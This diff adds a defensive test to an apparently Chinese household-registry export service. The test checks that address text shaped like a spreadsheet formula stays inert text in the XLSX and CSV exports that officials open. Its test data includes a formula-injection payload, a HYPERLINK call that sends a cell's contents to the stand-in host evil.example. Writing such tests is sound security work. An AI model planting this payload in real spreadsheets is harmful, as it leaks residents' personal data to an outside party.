@@ -271,6 +271,33 @@ async def test_county_archive_xlsx_holds_the_whole_county(writable_registry, mon
     assert {row["证件号码"] for row in members} == set(data["ids"])
 
 
+INJECTED_ADDRESS = '=HYPERLINK("http://evil.example/?x="&A2,"点击")'
+
+
+async def test_text_that_looks_like_a_formula_stays_text_in_every_spreadsheet(writable_registry) -> None:
+    """Formula injection: a household's own text never becomes a formula in the exports officials open."""
+    registry = writable_registry
+    members = [person("钱多多", "head", True)]
+    await create(
+        registry, household(VILLAGE, "钱多多", members, address=INJECTED_ADDRESS, village_group="+1组")
+    )
+
+    for path, tier, division, title in (
+        (f"/exports/villages/{VILLAGE}/register.xlsx", "village", VILLAGE, "户"),
+        (f"/exports/townships/{TOWNSHIP}/book.xlsx", "county", COUNTY, "纪念塔社区"),
+        (f"/exports/counties/{COUNTY}/archive.xlsx", "county", COUNTY, "户"),
+    ):
+        sheet = load_workbook(io.BytesIO(await fetch(registry, path, tier, division)))[title]
+        header = [cell.value for cell in sheet[1]]
+        cell = sheet.cell(row=2, column=header.index("家庭住址") + 1)
+        assert cell.data_type == "s" and cell.value == INJECTED_ADDRESS, path
+        assert not any(c.data_type == "f" for row in sheet.iter_rows() for c in row), path
+
+    body = await fetch(registry, f"/exports/counties/{COUNTY}/archive.csv", "county", COUNTY)
+    row = next(csv.DictReader(io.StringIO(body.decode("utf-8-sig"))))
+    assert row["家庭住址"] == "'" + INJECTED_ADDRESS and row["组"] == "'+1组"
+
+
 @pytest.mark.parametrize(("tier", "division"), [("city", CITY), ("province", PROVINCE)])
 async def test_above_the_county_no_full_id_appears_in_any_export(writable_registry, tier, division) -> None:
     registry = writable_registry
